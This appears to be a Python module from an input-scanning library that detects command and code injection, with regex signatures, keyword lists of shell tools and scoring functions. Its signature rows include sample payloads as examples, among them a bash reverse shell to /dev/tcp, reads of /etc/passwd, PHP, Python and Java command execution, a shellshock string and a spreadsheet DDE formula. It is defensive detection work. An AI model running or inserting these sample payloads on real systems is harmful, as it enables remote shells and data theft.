"""Command and code injection: a separator or substitution that hands the rest of a value to an interpreter.

Words such as ``cat``, ``find`` or ``id`` are English or column names too: they count only with an argument
that a command has. A value that is a command line of its own (a snippet, a cron line) is no breakout.
"""

import re
from itertools import islice
from typing import Final

from limen.features.lexing import words
from limen.features.prose import quieted
from limen.features.signatures.row import ANY, EDGE, Row, S

KIND: Final = "command"
PLACES: Final = 8
"""Separators and substitutions of one value that are looked at."""

_STRONG: Final = (
    r"whoami|uname|ifconfig|ipconfig|netstat|nslookup|wget|curl|ls|pwd|bash|sh|zsh|ksh|nc|ncat|netcat"
    r"|powershell|pwsh"
    r"|cmd|chmod|chown|rm|tasklist|systeminfo|certutil|bitsadmin|mkfifo|telnet"
    r"|base64|xxd"
    r"|printenv|nohup|awk|sed|grep|ssh|scp|sudo|crontab|phpinfo|hostname|rundll32|regsvr32|mshta|wmic|expr"
    r"|traceroute"
    r"|ps|df|lsof|gcc|tcpdump|shutdown|useradd|adduser|getent|lsb_release|dmesg|busybox|tftp|socat|iex"
    r"|vssadmin"
)
_WORDY: Final = (
    r"id|cat|sleep|ping6?|echo|dir|type|net|find|sort|cut|head|tail|more|less|date|time|kill|top|env|set"
    r"|export|touch"
    r"|who|last|host|dig|test|reg|copy|del|start|eval|exec|system|reboot|print|printf|w|cd|mv|cp|tee|su|tr"
    r"|wc|nl|od"
    r"|passthru|shell_exec|python[23]?|perl|ruby|str|ver|arp|route|mail|php|vi|ed|dd|man|at|finger|timeout|waitfor"
)
_PATH: Final = r"(?:/(?:usr/)?(?:local/)?s?bin/|c:\\windows\\system32\\)"
_OPEN: Final = r"(?:;|\|\|?|&&?|\r|\n|\$\(|<\(|>\()"
"""Each way begins with a character of its own, so that a search skips all others."""
_GAP: Final = r"[\s'\"({]{0,8}"
_ARGUMENT: Final = (
    r"\s+(?:-{1,2}[\w]|/[\w.?*]|[~.]{1,2}/|\d|\$|%\w+%|[a-z]:\\|['\"]|https?:|[<>|&;]|[\w.*?-]+\.[\w*]+"
    r"|user\b)"
)

_SUBSTITUTION = re.compile(
    rf"(?:(?<!`)`(?!`)|\$\(|<\(){_GAP}(?:(?P<path>{_PATH}\w+)|(?P<strong>{_STRONG})\b"
    rf"|(?P<wordy>{_WORDY})\b)(?P<rest>[^`)]*)",
    re.IGNORECASE,
)
_SEQUENCE = re.compile(
    rf"{_OPEN}{_GAP}(?:(?P<path>{_PATH}\w+)|(?P<strong>{_STRONG})(?=[\s;|&<>)'\"`(/]|\.exe|\Z)"
    rf"|(?P<wordy>{_WORDY})(?={_ARGUMENT}|\s*(?P<end>[;|&`)'\"#}}]|\Z)|[<>(]))",
    re.IGNORECASE,
)
_STRONG_GOES_ON = re.compile(
    r"(?:\.exe)?\s*(?:\Z|[;|&<>)'\"`(#]|[-/$%~.\d\\:]|https?:|[\w.-]+\s*[./\\:]|\w+\s*(?:\Z|[;|&<>]))",
    re.IGNORECASE,
)
_SENSITIVE = re.compile(
    r"/(?:etc/(?:passwd|shadow|hosts|group)|dev/tcp/|bin/(?:ba|z|k|da)?sh\b|tmp/\w|e\?\?/)"
    r"|win\.ini|\bnc\s+-\w*e|>&\s*/dev|id_rsa|net\s+user\s|\|\s*(?:ba|z)?sh\b|-nop\b|downloadstring"
    r"|\$\{?ifs\}?",
    re.IGNORECASE,
)
_ALONE = re.compile(
    r"\A\s*(?:(?:powershell|pwsh)(?:\.exe)?\s+-|cmd(?:\.exe)?\s+/[ck]\b|(?:/usr)?/bin/\w+\s+\S"
    r"|bash\s+-[ci]\b|=\s*cmd\|)",
    re.IGNORECASE,
)
_HAS_ARGUMENT = re.compile(rf"{_ARGUMENT}|\s+[A-Z0-9]+\Z|[<>]", re.IGNORECASE)
_COMMAND = re.compile(rf"(?:{_STRONG}|{_WORDY})\Z", re.IGNORECASE)
_NAMED = re.compile(rf"\A\s*(?:{_STRONG}|{_WORDY})\s+\S", re.IGNORECASE)
_HOST = re.compile(r"[\w./:-]*[./:\d][\w./:-]*\Z|\Z|[a-z]{1,3}\Z|[^\s]*['\")%]\Z", re.IGNORECASE)

_FIELDS = re.compile(r"\$\{?IFS\}?(?:\$\d)?", re.IGNORECASE)
_SPLIT = re.compile(r"(?<=[a-z])(?:(['\"])([a-z]{0,4})\1(?=[a-z ]|\Z)|\\(?=[a-z])|\$@(?=[a-z]))")
_BRACES = re.compile(r"\{(\w{1,16}),([^{}]{1,64})\}")

ROWS: Final = (
    Row(
        "command-separator",
        KIND,
        0.0,
        rf"(?:[;|&`\x0a\x0d]|\$\(|[<>]\(){S}{{0,4}}['\"({{\\]{{0,3}}{S}{{0,4}}(?:/(?:usr/)?(?:local/)?s?bin"
        rf"/|(?:{_STRONG}|{_WORDY})\b)",
        "a second command",
        ("x; cat /etc/passwd", "a|id", "$(whoami)", "`id`"),
        ("salt & pepper",),
    ),
    Row(
        "command-obscured",
        KIND,
        0.0,
        rf"\$\{{?ifs|[;|&`(]{S}{{0,4}}\{{?\w{{0,8}}(?:['\"]{{1,2}}|\\)\w{{1,8}}['\"\\]?\w{{0,8}}{S}{{1,4}}/"
        rf"|\{{\w{{1,16}},/"
        rf"|{EDGE}\w{{1,4}}['\"]{{1,2}}\w{{1,4}}['\"]{{1,2}}\w{{0,4}}{S}",
        "a command name spelt so that filters miss it",
        ("x;sleep${IFS}5", ";c\\at /e??/p?sswd"),
        ("if (x)",),
    ),
    Row(
        "command-alone",
        KIND,
        0.0,
        rf"{EDGE}{S}{{0,4}}(?:powershell(?:\.exe)?{S}|pwsh{S}|cmd(?:\.exe)?{S}{{1,4}}/|=cmd\||bash{S}-"
        rf"|/bin/|/usr/bin/)",
        "an interpreter called by name",
        ("cmd.exe /c dir",),
        ("command /c",),
    ),
    Row(
        "shellshock",
        KIND,
        24.0,
        rf"\({S}{{0,4}}\){S}{{0,4}}\{{{S}{{0,4}}:?;?{ANY}{{0,16}}\}}{S}{{0,4}};",
        "a bash function definition with a command behind it (CVE-2014-6271)",
        ("() { :; }; echo x",),
        ("f() {}",),
    ),
    Row(
        "reverse-shell",
        KIND,
        20.0,
        rf"/dev/(?:tcp|udp)/\w|\bnc(?:\.\w{{1,16}})?{S}{{1,4}}-{ANY}{{0,16}}e{S}{{1,4}}/bin/",
        "a shell sent over the network",
        ("bash -i >& /dev/tcp/10.0.0.1/80",),
        ("/dev/null",),
    ),
    Row(
        "python-code",
        KIND,
        18.0,
        rf"__import__{S}*\({S}*['\"]|\bimport{S}+(?:os|subprocess|pty){S}*[;,]|[;{{(\x1e]{S}*os\.(?:system|popen){S}*\(",
        "Python that runs a command",
        ("__import__('os').system('id')",),
        ("import os",),
    ),
    Row(
        "node-code",
        KIND,
        18.0,
        rf"\brequire{S}{{0,4}}\({S}{{0,4}}['\"]child_process|process\.mainmodule\.",
        "Node.js that runs a command",
        ("require('child_process')",),
        ("require('express')",),
    ),
    Row(
        "php-code",
        KIND,
        16.0,
        rf"<\?(?:php|=)?{ANY}{{0,32}}(?:system|eval|exec|passthru|assert|popen|base64_decode|\$_(?:get|post"
        rf"|request|cookie)|phpinfo){S}{{0,4}}[(\[]"
        rf"|[;{{.(@]{S}{{0,4}}(?:phpinfo|print|system|passthru|shell_exec|md5|eval"
        rf"|assert){S}{{0,4}}\({ANY}{{0,32}}\){{1,3}}{S}{{0,4}}[;}}.]"
        r"|\$_(?:get|post|request|cookie|server)\b\[",
        "PHP that is evaluated",
        ("<?php system('id'); ?>", ";phpinfo();"),
        ("<?xml version",),
    ),
    Row(
        "java-code",
        KIND,
        18.0,
        rf"\bruntime\b{ANY}{{0,16}}getruntime|processbuilder{S}{{0,4}}\(|ognl\.|#context\[|@java\.lang",
        "Java or OGNL that runs a command",
        ("java.lang.Runtime.getRuntime().exec",),
        ("runtime error",),
    ),
    Row(
        "ssi",
        KIND,
        20.0,
        rf"<!--#{S}{{0,4}}(?:exec|include|echo|config|printenv)\b",
        "a server-side include",
        ('<!--#exec cmd="id"-->',),
        ("<!-- # -->",),
    ),
    Row(
        "formula-dde",
        KIND,
        18.0,
        rf"[=+@-]{S}{{0,4}}cmd\|",
        "a spreadsheet formula that starts a program",
        ("=cmd|'/C calc'!A0",),
        ("=sum(a)",),
    ),
)


def judge(text: str) -> float:
    """Bits that ``text`` breaks out into a shell."""
    plain = _unobscured(text)
    best = 0.0
    for match in islice(_SUBSTITUTION.finditer(plain), PLACES):
        best = max(best, _substitution(plain, match))
    for match in islice(_SEQUENCE.finditer(plain), PLACES):
        best = max(best, _sequence(plain, match))
    if _ALONE.match(plain) or (_NAMED.match(plain) and (plain != text or _SENSITIVE.search(plain))):
        best = max(best, quieted(13.0, words(plain)))
    return best + (2.0 if best and plain != text else 0.0)


def _unobscured(text: str) -> str:
    """Take out what a shell takes out: ``${IFS}``, quotes and backslashes in words, braces round lists."""
    plain = _FIELDS.sub(" ", text) if "$" in text else text
    plain = _SPLIT.sub(r"\2", plain)
    return _BRACES.sub(r"\1 \2", plain) if "{" in plain else plain


def _substitution(text: str, match: re.Match[str]) -> float:
    """Score ``$(command)``; a word that is English too needs an argument, unless it is ``id``."""
    rest = match["rest"]
    bare = match["wordy"] is not None and not _HAS_ARGUMENT.match(rest)
    if bare and (rest.strip() or match["wordy"].lower() != "id"):
        return 4.0
    return _scored(text, match, 13.0)


def _sequence(text: str, match: re.Match[str]) -> float:
    """Score a command after a separator, by its own weight and by what stands before it."""
    before, rest = text[: match.start()], text[match.end() :]
    if match.group()[0] in "\r\n" and (text.count("\n") > 2 or len(before.split()) > 1):
        return 0.0
    if match["path"]:
        return _scored(text, match, 13.0)
    if match["strong"]:
        return _scored(text, match, 13.0) if _STRONG_GOES_ON.match(rest) else 0.0
    if match["end"] is not None and not rest.strip(" \r\n\t;|&\"'`)#}"):
        closed = rest.strip() != ""
        likely = _HOST.match(before.rpartition("\n")[2]) is not None
        return _scored(
            text, match, (12.5 if closed or any(c.isdigit() for c in before) else 9.0) if likely else 4.0
        )
    if match["end"] is not None:
        return 4.0
    return _scored(text, match, 13.0)


def _scored(text: str, match: re.Match[str], bits: float) -> float:
    """Quieten ``bits`` by prose, and where the value was a command line before the separator already."""
    before = text[: match.start()].strip()
    sensitive = _SENSITIVE.search(text, match.start()) is not None
    parts = before.split()
    snippet = (len(parts) >= 2 or _COMMAND.match(before) is not None) and before[:1] not in ";|&'\"`$()#"
    if not sensitive and snippet and not _HOST.match(parts[-1]):
        bits *= 0.5
    return quieted(bits + (5.0 if sensitive else 0.0), words(text))
